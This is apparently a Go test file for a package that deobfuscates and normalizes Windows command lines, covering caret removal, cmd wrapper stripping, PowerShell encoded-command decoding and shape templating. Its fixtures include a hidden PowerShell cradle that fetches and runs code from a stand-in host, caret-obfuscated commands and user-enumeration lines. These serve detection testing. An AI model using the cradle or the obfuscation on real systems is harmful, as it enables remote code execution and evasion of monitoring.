package cmdline

import (
	"encoding/base64"
	"testing"
	"unicode/utf16"
)

func TestDecaret(t *testing.T) {
	decaret := func(in, want string) {
		t.Helper()
		if got := Decaret(in); got != want {
			t.Errorf("%q gives %q, want %q", in, got, want)
		}
	}
	decaret(`plain`, `plain`)
	decaret(`p^ow^er^shell`, `powershell`)
	decaret(`a^^b`, `a^b`)
	decaret(`a^&b "c^d" e^f`, `a&b "c^d" ef`)
	decaret("a^\r\nb^\nc", "abc")
	decaret(`tail^`, `tail`)
	decaret(`^`, ``)
}

func TestStripCmdWrapper(t *testing.T) {
	strip := func(line, want string) {
		t.Helper()
		if got, ok := StripCmdWrapper(line); got != want || !ok {
			t.Errorf("%s\n got %q, %v\nwant %q", line, got, ok, want)
		}
	}
	strip(`cmd /c whoami`, `whoami`)
	strip(`CMD.EXE /C whoami`, `whoami`)
	strip(`"C:\Windows\system32\cmd.exe" /d /s /c "ping -n 1 x & del y"`, `ping -n 1 x & del y`)
	strip(`C:\Windows\system32\cmd.exe /c "C:\Program Files\a.exe" b`, `"C:\Program Files\a.exe" b`)
	strip(`cmd /c "C:\Program Files\a.exe"`, `"C:\Program Files\a.exe"`)
	strip(`cmd /s /c "C:\Program Files\a.exe"`, `C:\Program Files\a.exe`)
	strip(`cmd /c ""C:\Program Files\a.exe" "x y""`, `"C:\Program Files\a.exe" "x y"`)
	strip(`cmd /c "whoami"`, `whoami`)
	strip(`cmd /c "net user bob"`, `net user bob`)
	strip(`cmd /v:on/e:on /t:0a /k set`, `set`)
	strip(`cmd /Q/Cdir`, `dir`)
	strip(`cmd.exe/c dir`, `dir`)
	strip(`C:/Windows/System32/cmd.exe/cdir`, `dir`)
	strip(`cmd "/c whoami"`, `whoami`)
	strip(`%comspec% /r echo 1`, `echo 1`)
	strip(`cmd /c "unfinished`, `unfinished`)
	for _, line := range []string{``, `cmd`, `cmd /q`, `cmd /v`, `cmd /zz`, `cmdkey /c x`, `x.exe /c cmd`, `notcmd.exe /c x`, `cmd /`} {
		if got, ok := StripCmdWrapper(line); ok {
			t.Errorf("%q is no wrapper, got %q", line, got)
		}
	}
}

func encode(text string) string {
	var raw []byte
	for _, unit := range utf16.Encode([]rune(text)) {
		raw = append(raw, byte(unit), byte(unit>>8))
	}
	return base64.StdEncoding.EncodeToString(raw)
}

func TestEncodedCommand(t *testing.T) {
	script := "IEX (irm 'http://example.test/é')"
	for _, name := range []string{`-e`, `-ec`, `-en`, `-enc`, `-EncodedCommand`, `/e`, `/ENC`, "\u2013enc", `--enc`, `-e^nc`} {
		line := `powershell.exe -nop -w hidden ` + name + ` ` + encode(script)
		if got, ok := EncodedCommand(line); got != script || !ok {
			t.Errorf("%s gives %q, %v", name, got, ok)
		}
	}
	decodes := func(line string) {
		t.Helper()
		if got, ok := EncodedCommand(line); got != script || !ok {
			t.Errorf("%s gives %q, %v", line, got, ok)
		}
	}
	decodes(`cmd /c renamed.exe -e "` + encode(script) + `"`)
	decodes(`powershell -enc:` + encode(script))
	decodes(`powershell -enc ` + encode("\ufeff"+script))
	for _, line := range []string{
		`powershell -enc`,
		`powershell -ExecutionPolicy Bypass`,
		`powershell -ea ` + encode(script),
		`grep -e test`,
		`x -e abcdefghijkl`,
		`powershell -enc ` + base64.StdEncoding.EncodeToString([]byte{0, 0xd8, 'a', 0}),
		`powershell -enc ` + encode("a\x01b"),
	} {
		if got, ok := EncodedCommand(line); ok {
			t.Errorf("%s must not decode, got %q", line, got)
		}
	}
}

func TestShape(t *testing.T) {
	shape := func(line, want string) {
		t.Helper()
		if got := Shape(line); got != want {
			t.Errorf("%s\n got %s\nwant %s", line, got, want)
		}
	}
	shape(``, ``)
	shape(`  "C:\Windows\System32\Rundll32.exe"   shell32.dll,#44  `, `c:\windows\system32\rundll32.exe shell32.dll,#<n>`)
	shape(`C:\Users\bob\AppData\Local\Temp\7zO41\setup.exe /s`, `c:\users\<user>\appdata\local\temp\<tmp>\<tmp>.exe /s`)
	shape(`C:\Users\al.ice\x.exe`, `c:\users\<user>\x.exe`)
	shape(`C:/Users/alice/x.exe`, `c:/users/<user>/x.exe`)
	shape(`net localgroup users /add bob`, `net localgroup users /add bob`)
	shape(`csc @C:\Windows\Temp\q3kf0s.cmdline`, `csc @c:\windows\temp\<tmp>.cmdline`)
	shape(`x C:\a\q8.tmp C:\temp`, `x c:\a\<tmp>.tmp c:\temp`)
	shape(`msiexec /x {9D9F1A4C-6D0A-4A51-8D43-0B8E0C1F7A11} /q`, `msiexec /x {<guid>} /q`)
	shape(`x S-1-5-21-1-2-3-1001`, `x <sid>`)
	shape(`"C:\Program Files (x86)\Windows Kits\10\bin\10.0.19041.0\x64\mftrace.exe" -a 4711`, `c:\program files (x86)\windows kits\<n>\bin\<n>\x64\mftrace.exe -a <n>`)
	shape(`app-1.2.3 p1234 0x3E7 deadbeef01 12345678`, `app-<n> p<n> <hex> <hex> <n>`)
	shape(`powershell -enc `+encode(`Get-ChildItem C:\ 1`), `powershell -enc <blob>`)
	shape(`x abcdefghijklmnopqrstuvwxyz0123456789`, `x <blob>`)
	shape(`C:\WindowsPowerShell\v1.0\powershell.exe`, `c:\windowspowershell\v<n>\powershell.exe`)
	shape(`c^md /c e'c'ho`, `cmd /c echo`)
	shape("x \xff", "x \ufffd")
}
